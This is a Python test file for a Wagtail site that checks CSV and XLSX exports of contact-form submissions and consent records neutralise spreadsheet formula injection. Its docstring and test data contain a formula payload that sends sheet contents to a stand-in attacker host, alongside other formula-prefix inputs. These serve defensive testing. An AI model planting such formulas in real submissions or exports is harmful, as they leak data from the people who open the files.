"""Spreadsheet exports never run what a visitor or an editor typed as a formula.

The attack (R2 3/8): anyone may send the contact form. A message such as
`=HYPERLINK("http://evil.example/?"&A1,"Open")` went into Wagtail's CSV export as it was,
and Excel, LibreOffice or Google Sheets ran it as a formula when an editor opened the file
(links that leak the sheet, DDE on old Excel). Cells starting with `=`, `+`, `-`, `@`, tab
or CR now get a single quote in front (OWASP); XLSX stores them as text cells.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.model import ModelViewSet
from wagtail.contrib.forms.models import FormMixin
from wagtail.models import get_page_models

from legal.consent import new_consent_id
from legal.spreadsheets import FormulaSafeExportMixin, neutralise_formula
from website.models import ContactFormField, ContactPage

pytestmark = pytest.mark.django_db

# What an attacker types; the form strips leading whitespace, so the tab and CR ones reach
# the database only from elsewhere (older data, an import) and are stored directly below.
TYPED = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1", "-1", "@SUM(1)"]
STORED = ["\t=1", "\r=1"]


@pytest.fixture
def contact(demo_site):
    return ContactPage.objects.get()


@pytest.fixture
def editor_client(client, django_user_model):
    editor = django_user_model.objects.create_superuser("editor", "editor@example.com", "pw")
    client.force_login(editor)
    return client


@pytest.fixture
def hostile_submissions(client, contact):
    for value in TYPED:
        response = client.post(
            "/contact/",
            {"your_name": value, "your_e_mail_address": "a@example.com", "message": value},
        )
        assert response.status_code == 200 and "Thank you" in response.content.decode()
    submission_class = contact.get_submission_class()
    for value in STORED:
        submission_class.objects.create(
            page=contact,
            form_data={
                "your_name": value,
                "your_e_mail_address": "a@example.com",
                "message": value,
            },
        )
    return TYPED + STORED


def export(editor_client, page, export_format) -> bytes:
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    response = editor_client.get(url, {"export": export_format})
    assert response.status_code == 200
    content = getattr(response, "streaming_content", None)
    return b"".join(content) if content is not None else response.content


def test_the_csv_export_quotes_every_would_be_formula(editor_client, contact, hostile_submissions):
    rows = list(csv.DictReader(io.StringIO(export(editor_client, contact, "csv").decode())))
    assert len(rows) == len(hostile_submissions)
    for row, value in zip(rows, hostile_submissions, strict=True):
        for column in ("Your name", "Message"):
            assert row[column] == "'" + value, column
    assert {row["Your e-mail address"] for row in rows} == {"a@example.com"}


def test_the_xlsx_export_stores_them_as_text_not_formulas(
    editor_client, contact, hostile_submissions
):
    workbook = openpyxl.load_workbook(io.BytesIO(export(editor_client, contact, "xlsx")))
    sheet = workbook.active
    headings = [cell.value for cell in sheet[1]]
    name = headings.index("Your name")
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[name].value for row in rows] == hostile_submissions
    for row in rows:
        assert all(cell.data_type != "f" for cell in row)


def test_a_field_label_that_is_a_formula_is_a_text_heading(editor_client, contact):
    """Labels are editors' text, and head a column in both formats."""
    ContactFormField.objects.create(page=contact, label="=1+1", field_type="singleline")
    header = next(csv.reader(io.StringIO(export(editor_client, contact, "csv").decode())))
    assert "'=1+1" in header
    sheet = openpyxl.load_workbook(io.BytesIO(export(editor_client, contact, "xlsx"))).active
    [heading] = [cell for cell in sheet[1] if "=1+1" in str(cell.value)]
    assert heading.data_type == "s"


def test_the_consent_record_export_is_formula_safe(editor_client, client, demo_site):
    client.post("/consent/", {"action": "accept_all"}, HTTP_ORIGIN="http://testserver")
    response = editor_client.get("/admin/consent-records/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert len(rows) == 2 and not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_new_consent_ids_never_start_like_a_formula():
    """Else one in 64 would start with "-", be quoted in the export, and no longer match
    when an editor copies it into the admin's search."""
    assert all(new_consent_id()[0].isalpha() for _ in range(2000))


def export_fields(viewset) -> list:
    """What the viewset's listing exports: its own `list_export`, else its view's."""
    declared = viewset.list_export
    return viewset.index_view_class.list_export if declared is viewset.UNDEFINED else declared


def test_every_export_the_project_defines_is_formula_safe():
    """A viewset given `list_export` later, or a new form page, must use the safe views."""
    project_apps = {"legal", "newsletter", "leadmagnets", "website", "cookie_consent"}
    reverse("wagtailadmin_home")  # loads the admin's URLs, which registers every viewset
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(viewset, ModelViewSet)
        and viewset.model._meta.app_label in project_apps
        and export_fields(viewset)
    ]
    assert exporting  # the consent records
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, FormulaSafeExportMixin), viewset
    form_pages = [
        model
        for model in get_page_models()
        if issubclass(model, FormMixin) and model._meta.app_label in project_apps
    ]
    assert form_pages == [ContactPage]
    for model in form_pages:
        view_class = model().get_submissions_list_view_class()
        assert issubclass(view_class, FormulaSafeExportMixin), model


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_only_strings_that_start_a_formula_are_quoted(value, expected):
    assert neutralise_formula(value) == expected
